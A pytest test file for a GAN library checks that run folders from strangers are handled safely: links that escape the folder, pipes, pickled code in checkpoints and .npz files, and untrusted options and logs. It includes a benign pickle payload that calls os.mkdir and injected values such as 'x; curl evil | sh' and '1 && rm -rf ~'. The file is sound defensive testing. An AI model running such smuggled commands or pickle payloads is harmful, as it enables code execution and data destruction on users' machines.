"""A run folder from a stranger: nothing of it is run as code, and nothing is read or written through it elsewhere."""

from __future__ import annotations

import ast
import hashlib
import io
import json
import os
import pickle
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import torch
from stacks import write_mnist

import ganzoo
from ganzoo import hookimpl
from ganzoo.cli import run as typed
from ganzoo.data.dataset import Dataset
from ganzoo.errors import GanzooError
from ganzoo.files import checkpoint
from ganzoo.recipes import Data, DataSpec, RunOptions
from ganzoo.runs import trust
from ganzoo.runs.callbacks import loggers
from ganzoo.runs.run import Run
from ganzoo.specs import DatasetSpec
from ganzoo.zoo.datasets import load_data
from ganzoo.zoo.zoo import Plugin, Zoo

COMMANDS = {
    "resume": "resume {run} --steps 5",
    "sample": "sample {run}",
    "eval": "eval {run} -n 50",
    "directions": "directions {run}",
    "export": "export {run} --to {run}/g.safetensors",
}
"""Those that load weights."""

ALL = COMMANDS | {"compare": "compare {run} --out {run}/c.png", "report": "report {run} --to {run}/r.html"}


class World:
    """A stranger's run folder, beside a folder of the user's that must stay as it is."""

    def __init__(self, folder: Path) -> None:
        self.run, self.mine = folder / "run", folder / "mine"
        self.marker = self.mine / "ran"
        self.mine.mkdir()
        (self.mine / "letter.txt").write_text("mine")
        (self.mine / "photos").mkdir()
        self.before = self.content()

    def content(self) -> dict[str, bytes | None]:
        return {str(p): p.read_bytes() if p.is_file() else None for p in sorted(self.mine.rglob("*"))}

    def describe(self, **values: Any) -> None:
        """Change what recipe.json says."""
        file = self.run / "recipe.json"
        file.write_text(json.dumps(json.loads(file.read_text()) | values))

    def replace(self, name: str, target: str | Path) -> None:
        """Put a link in the place of something in the run folder."""
        place = self.run / name
        if place.is_dir() and not place.is_symlink():
            shutil.rmtree(place)
        place.unlink(missing_ok=True)
        place.parent.mkdir(exist_ok=True)
        place.symlink_to(target)

    def refuses(self, command: str, capfd: pytest.CaptureFixture[str]) -> str:
        """The one line that a command ends in, with exit code 2 and nothing changed outside the run folder."""
        capfd.readouterr()
        code = typed(ALL[command].format(run=self.run).split())
        err = capfd.readouterr().err
        assert code == 2, err
        lines = err.splitlines()
        assert len([line for line in lines if line.startswith("error: ")]) == 1, err
        assert "Traceback" not in err
        assert self.content() == self.before
        return lines[-1]


@pytest.fixture
def world(tmp_path: Path, digits_run: Path, monkeypatch: pytest.MonkeyPatch) -> World:
    shutil.copytree(digits_run, tmp_path / "run")
    (tmp_path / "here").mkdir()
    monkeypatch.chdir(tmp_path / "here")
    return World(tmp_path)


class Marker:
    """Unpickled, it makes a file: what a stranger's code would do."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> Any:
        return os.mkdir, (str(self.path),)


def put_checkpoint(folder: Path, step: int, content: bytes) -> None:
    """A checkpoint of any content, with a right checksum."""
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"step-{step:09d}.pt"
    path.write_bytes(content)
    note = {"format": 1, "step": step, "bytes": len(content), "sha256": hashlib.sha256(content).hexdigest()}
    path.with_suffix(".json").write_text(json.dumps(note))


def saved(state: Any) -> bytes:
    buffer = io.BytesIO()
    torch.save(state, buffer)
    return buffer.getvalue()


# Links.

OUT = [
    "recipe.json",
    "metrics.jsonl",
    "checkpoints",
    "checkpoints/step-000000003.pt",
    "samples",
    "samples/000000.png",
    "samples.png",
    "losses.png",
    "training.gif",
    "scores.json",
    "evaluations.jsonl",
    "grid-1.png",
    ".lock",
    "tensorboard",
    "wandb",
    "checkpoints/best",
]


@pytest.mark.parametrize(
    ("name", "command"),
    [*((name, "resume") for name in OUT), *(("samples.png", name) for name in ALL if name != "resume")],
)
def test_a_link_out_of_the_folder_is_refused(
    name: str, command: str, world: World, capfd: pytest.CaptureFixture[str]
) -> None:
    # What the link leads to would do: the user's own file of that name.
    theirs = world.mine / "photos" / Path(name).name
    if (world.run / name).exists():
        shutil.move(world.run / name, theirs)
        world.before = world.content()
    world.replace(name, theirs)
    line = world.refuses(command, capfd)
    assert f"{name} is a link that leads out of it" in line


@pytest.mark.parametrize("target", ["../mine/letter.txt", "/dev/stdin", "samples.png", "../run-2/x"])
def test_a_link_by_any_way_is_refused(target: str, world: World, capfd: pytest.CaptureFixture[str]) -> None:
    world.replace("samples.png", target)
    assert "samples.png is a link that leads out of it" in world.refuses("sample", capfd)


def test_a_link_to_a_link_that_leads_out_is_refused(world: World, capfd: pytest.CaptureFixture[str]) -> None:
    world.replace("a", "b")
    world.replace("b", world.mine)
    assert "is a link that leads out of it" in world.refuses("resume", capfd)


def test_links_inside_and_a_linked_folder_are_opened(world: World, tmp_path: Path) -> None:
    world.replace("latest.png", "samples.png")
    (tmp_path / "link").symlink_to(world.run)
    assert ganzoo.load(tmp_path / "link").sample(1).shape == (1, 1, 8, 8)


@pytest.mark.parametrize("name", ["metrics.jsonl", "recipe.json", "checkpoints/step-000000003.pt"])
def test_a_pipe_is_refused_and_not_waited_for(name: str, world: World, capfd: pytest.CaptureFixture[str]) -> None:
    (world.run / name).unlink()
    os.mkfifo(world.run / name)
    line = world.refuses("resume", capfd)
    assert "is neither a file nor a folder" in line or "has no recipe.json" in line


def test_names_with_control_characters_are_not_printed(world: World, capfd: pytest.CaptureFixture[str]) -> None:
    (world.run / "a\x1b[2J\nb").symlink_to(world.mine)
    line = world.refuses("sample", capfd)
    assert "\x1b[2J" not in line
    assert "a?[2J?b is a link" in line


# Code.


def test_no_call_in_ganzoo_unpickles() -> None:
    wanted = {("torch", "load"): ("weights_only", True), ("np", "load"): ("allow_pickle", False)}
    source = Path(ganzoo.__file__).parent
    calls = 0
    for file in [*source.rglob("*.py"), *(source.parent / "plugins").rglob("*.py")]:
        for node in ast.walk(ast.parse(file.read_text("utf-8"))):
            if isinstance(node, (ast.Import, ast.ImportFrom)):
                names = [alias.name for alias in node.names] + [getattr(node, "module", None) or ""]
                assert not {"pickle", "shelve", "dill", "joblib", "marshal"} & set(names), file
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
                base = node.func.value.id if isinstance(node.func.value, ast.Name) else ""
                if (base, node.func.attr) in wanted:
                    name, value = wanted[base, node.func.attr]
                    given = {word.arg: getattr(word.value, "value", None) for word in node.keywords}
                    assert given.get(name) is value, f"{file}:{node.lineno}"
                    calls += 1
    assert calls >= 4


@pytest.mark.parametrize("kind", ["torch", "plain pickle"])
@pytest.mark.parametrize("command", COMMANDS)
def test_code_in_the_checkpoints_is_not_run(
    command: str, kind: str, world: World, capfd: pytest.CaptureFixture[str]
) -> None:
    content = saved(Marker(world.marker)) if kind == "torch" else pickle.dumps(Marker(world.marker))
    for path in (world.run / "checkpoints").glob("*.pt"):
        put_checkpoint(world.run / "checkpoints", int(path.stem[5:]), content)
    assert "holds more than tensors and plain values; it was not loaded" in world.refuses(command, capfd)


def test_the_marker_works(tmp_path: Path) -> None:
    torch.load(io.BytesIO(saved(Marker(tmp_path / "ran"))), weights_only=False)
    assert (tmp_path / "ran").exists()


def test_code_in_a_newer_checkpoint_gives_way_to_the_older_one(world: World) -> None:
    put_checkpoint(world.run / "checkpoints", 9, saved(Marker(world.marker)))
    assert ganzoo.load(world.run).sample(1).shape == (1, 1, 8, 8)
    assert not world.marker.exists()


@pytest.mark.parametrize("command", ["sample", "eval", "export"])
def test_code_in_the_best_state_is_not_run(
    command: str, world: World, capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    put_checkpoint(world.run / "checkpoints" / "best", 3, saved(Marker(world.marker)))
    monkeypatch.setitem(ALL, command, ALL[command] + " --best")
    assert "holds more than tensors and plain values" in world.refuses(command, capfd)


@pytest.mark.parametrize("state", [{"progress": {"step": 2}}, [1], Marker])
def test_a_resume_with_evaluations_does_not_trust_the_best_state(state: Any, world: World) -> None:
    put_checkpoint(world.run / "checkpoints" / "best", 2, saved(state(world.marker) if state is Marker else state))
    ganzoo.resume(world.run, 4, eval_every=9, progress=False)
    assert not world.marker.exists()


@pytest.mark.parametrize("command", ["train vanilla --dataset {file}", "eval {file} --against digits"])
def test_code_in_an_npz_is_not_run(command: str, world: World, capfd: pytest.CaptureFixture[str]) -> None:
    file = world.run / "x.npz"
    np.savez(file, x=np.array([Marker(world.marker)] * 20, dtype=object))
    assert typed(command.format(file=file).split()) == 2
    assert "x.npz cannot be used: it cannot be read as a .npz file of plain arrays" in capfd.readouterr().err
    assert world.content() == world.before


def test_code_in_the_cache_of_classifiers_is_not_run(world: World, tmp_path: Path) -> None:
    from ganzoo.evaluation.features import domain

    spec = DataSpec("t", "image", (1, 8, 8), 2)
    images = torch.zeros(20, 1, 8, 8, dtype=torch.uint8)
    train = Dataset({"x": images, "y": torch.arange(20) % 2}, spec)
    path = tmp_path / "key.pt"
    path.write_bytes(saved(Marker(world.marker)))
    path.with_suffix(".json").write_text('{"accuracy": 1, "accuracy_on": "test", "sha256": ""}')
    assert domain._load(path, train, "key") is None
    assert not world.marker.exists()


@pytest.mark.parametrize(
    "state",
    [
        [],
        5,
        {"progress": 5},
        {"progress": {"step": "many"}},
        {"progress": {"step": -1, "batches": 0}},
        {"progress": {"step": 2}, "gan": {}},
        {"progress": {"step": 2}, "gan": 5},
    ],
)
@pytest.mark.parametrize("command", ["resume", "sample"])
def test_a_state_that_is_none_is_refused(
    command: str, state: Any, world: World, capfd: pytest.CaptureFixture[str]
) -> None:
    for path in (world.run / "checkpoints").glob("*.pt"):
        put_checkpoint(world.run / "checkpoints", int(path.stem[5:]), saved(state))
    assert str(world.run) in world.refuses(command, capfd)


@pytest.mark.parametrize("part", ["optimisers", "log", "progress"])
def test_a_state_of_which_a_part_is_missing_is_refused(
    part: str, world: World, capfd: pytest.CaptureFixture[str]
) -> None:
    _, state, _ = checkpoint.newest(world.run / "checkpoints")
    state[part] = {"step": 3} if part == "progress" else {}
    put_checkpoint(world.run / "checkpoints", 3, saved(state))
    assert "does not fit the optimisers" in world.refuses("resume", capfd)


# What recipe.json says of the machine.


@pytest.mark.parametrize(
    "options",
    [
        [],
        "x",
        {"data_root": 5},
        {"data_root": ["a"]},
        {"loggers": "wandb"},
        {"loggers": [5]},
        {"device": 5},
        {"devices": "many"},
        {"devices": True},
        {"save_every": 0.5},
        {"keep": None},
        {"device": "toaster"},
        {"devices": 0},
    ],
)
def test_options_of_wrong_types_are_one_line(options: Any, world: World, capfd: pytest.CaptureFixture[str]) -> None:
    world.describe(options=options)
    line = world.refuses("resume", capfd)
    assert "recipe.json is damaged" in line or "toaster" in line or "at least 1" in line


def test_an_option_of_a_newer_ganzoo_is_left_out(world: World) -> None:
    world.describe(options={"colour": "red", "out": str(world.mine), "progress": False})
    assert ganzoo.load(world.run).options() == {"progress": False, "recorded_root": None}


def test_the_recorded_out_is_not_written_to(world: World) -> None:
    world.describe(options={"out": str(world.mine / "new"), "progress": False})
    ganzoo.resume(world.run, 4)
    assert world.content() == world.before


@pytest.mark.parametrize("named", [(), ("tensorboard",)])
def test_recorded_loggers_are_not_started_unless_named_again(
    named: tuple[str, ...], world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    started: list[str] = []

    def logger(name: str) -> Callable[[Run], Any]:
        def start(run: Run) -> Any:
            from ganzoo.callbacks import Callback

            started.append(name)
            return Callback()

        return start

    monkeypatch.setattr(loggers, "LOGGERS", {name: logger(name) for name in ("wandb", "tensorboard")})
    monkeypatch.setattr(loggers, "check_logger", lambda name: None)
    monkeypatch.setattr(ganzoo.api.planning, "check_logger", lambda name: None)
    world.describe(options={"loggers": ["wandb", "tensorboard"], "progress": False})
    message: list[str] = []
    ganzoo.resume(world.run, 4, message.append, loggers=named)
    assert started == list(named)
    left_out = [name for name in ("wandb", "tensorboard") if name not in named]
    assert [line for line in message if "logged to" in line] == [
        f"the run logged to {name} before and now does not: to log there, add --logger {name}" for name in left_out
    ]


# The recorded data root.

MNIST = Data(name="mnist")


def test_a_recorded_root_is_read_from(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GANZOO_DATA", str(tmp_path / "mine"))
    root = write_mnist(tmp_path / "theirs")
    found = load_data(MNIST, RunOptions(recorded_root=str(root)))
    assert found.count == 300
    assert not (tmp_path / "mine").exists()


def test_nothing_is_downloaded_to_a_recorded_root(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    (world.mine / "MNIST" / "raw").mkdir(parents=True)
    world.before = world.content()
    # A root that cannot be made, so that nothing is downloaded to the user's own either.
    monkeypatch.setenv("GANZOO_DATA", str(world.mine / "letter.txt" / "root"))
    with pytest.raises(GanzooError, match=r"letter\.txt"):
        load_data(MNIST, RunOptions(recorded_root=str(world.mine)))
    assert world.content() == world.before


@pytest.mark.parametrize("command", ["resume", "eval"])
def test_a_run_that_names_a_root_does_not_write_there(
    command: str, world: World, capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GANZOO_DATA", str(world.mine / "letter.txt" / "root"))
    info = json.loads((world.run / "recipe.json").read_text())
    info["recipe"]["data"]["name"] = "mnist"
    for path in (world.run / "checkpoints").glob("*.pt"):
        state = checkpoint.load(path)
        state["recipe"] = info["recipe"]
        put_checkpoint(path.parent, int(path.stem[5:]), saved(state))
    world.describe(recipe=info["recipe"], options={"data_root": str(world.mine), "progress": False})
    assert "mnist" in world.refuses(command, capfd)


def test_a_typed_root_goes_before_a_recorded_one(tmp_path: Path) -> None:
    root = write_mnist(tmp_path / "typed")
    options = RunOptions(data_root=str(root), recorded_root=str(tmp_path / "recorded"))
    assert load_data(MNIST, options).count == 300


def test_a_run_finds_the_data_that_it_was_trained_on(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from small import SMALL

    monkeypatch.setenv("GANZOO_DATA", str(tmp_path / "mine"))
    root = write_mnist(tmp_path / "typed")
    keys = dict(SMALL) | {"batch": "8"}
    run = ganzoo.train(
        "vanilla", dataset="mnist", steps=2, set=keys, out=str(tmp_path / "run"), progress=False, data_root=str(root)
    )
    assert run.options()["data_root"] == str(root)
    assert ganzoo.load(run.path).options()["recorded_root"] == str(root)
    ganzoo.resume(run.path, 3, progress=False)
    assert not (tmp_path / "mine").exists()


@pytest.mark.parametrize("downloads", [True, False])
def test_other_packages_data_sets_see_a_recorded_root_only_if_they_never_download(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fresh: Zoo, downloads: bool
) -> None:
    roots: list[Path] = []

    def load(data: Data, root: Path, split: str) -> Dataset:
        roots.append(root)
        return Dataset({"x": torch.zeros(3, 2)}, DataSpec("theirs", "points", (2,), range=None))

    class Theirs:
        @staticmethod
        @hookimpl
        def ganzoo_datasets() -> list[DatasetSpec]:
            return [DatasetSpec("theirs", "Theirs.", "none", "points", load, downloads=downloads)]

    assert fresh.add(Plugin("theirs", "theirs", "1.0", Theirs)).error == ""
    monkeypatch.setenv("GANZOO_DATA", str(tmp_path / "mine"))
    load_data(Data(name="theirs"), RunOptions(recorded_root=str(tmp_path / "recorded")))
    assert roots == [tmp_path / ("mine" if downloads else "recorded")]


# What recipe.json says of packages.


@pytest.mark.parametrize(
    ("package", "version"), [("x; curl evil | sh", "1"), ("x", "1 && rm -rf ~"), ("$(id)", "1"), ("x\n", "1")]
)
def test_no_command_of_a_strangers_is_shown_to_type(
    package: str, version: str, world: World, capfd: pytest.CaptureFixture[str]
) -> None:
    world.describe(variant="theirs", plugin={"name": "t", "package": package, "version": version})
    line = world.refuses("sample", capfd)
    assert "pip install" not in line
    assert "the run does not record its package" in line


# Logs and scores.


BAD_LINES = [b"", b"\xff\xfe\n", b"[" * 10_000, b'{"step": 1}\n', b'{"step": "x", "seconds": 1}\n', b"5\n", b"null\n"]


@pytest.mark.parametrize("content", BAD_LINES)
def test_a_damaged_line_of_a_log_costs_no_other(content: bytes, world: World) -> None:
    good = b'{"step": 1, "seconds": 0.5, "g/loss": 0.7}\n'
    content += b"\n" if content and not content.endswith(b"\n") else b""
    (world.run / "metrics.jsonl").write_bytes(good + content + good)
    assert [record["step"] for record in ganzoo.load(world.run).metrics()] == [1, 1]


def test_a_training_goes_on_after_a_damaged_log(world: World) -> None:
    for name in ("metrics.jsonl", "evaluations.jsonl", "hints.jsonl"):
        (world.run / name).write_bytes(b"".join(BAD_LINES))
    run = ganzoo.resume(world.run, 4, progress=False)
    assert [record["step"] for record in run.metrics()] == [4]
    assert run.evaluations() == []


@pytest.mark.parametrize("content", [b"", b"{", b"[]", b"5", b"[" * 100_000, b'{"scores": 5}', b"\xff"])
def test_damaged_scores_are_one_line(content: bytes, world: World) -> None:
    (world.run / "scores.json").write_bytes(content)
    with pytest.raises(GanzooError, match=r"scores\.json is damaged: remove it"):
        _ = ganzoo.load(world.run).scores


def test_sheets_that_are_no_pictures_do_not_cost_the_training(world: World) -> None:
    (world.run / "samples" / "000001.png").write_bytes(b"not a picture")
    run = ganzoo.resume(world.run, 4, progress=False)
    assert checkpoint.newest(run.checkpoints)[1]["progress"]["step"] == 4


@pytest.mark.parametrize(
    "data",
    [
        {"shape": [1, -8, 8]},
        {"shape": []},
        {"shape": [0]},
        {"classes": -1},
        {"classes": 1e400},
        {"shape": "ab"},
        {"range": [1]},
    ],
)
def test_data_that_cannot_be_are_refused(data: Any, world: World, capfd: pytest.CaptureFixture[str]) -> None:
    info = json.loads((world.run / "recipe.json").read_text())
    world.describe(data=info["data"] | data)
    assert "is damaged: its data are not described" in world.refuses("sample", capfd)


def test_printable_text_has_no_line_breaks_and_control_characters() -> None:
    assert trust.printable("a\nb\x1b[31m\u202eé ü") == "a?b?[31m?é ü"
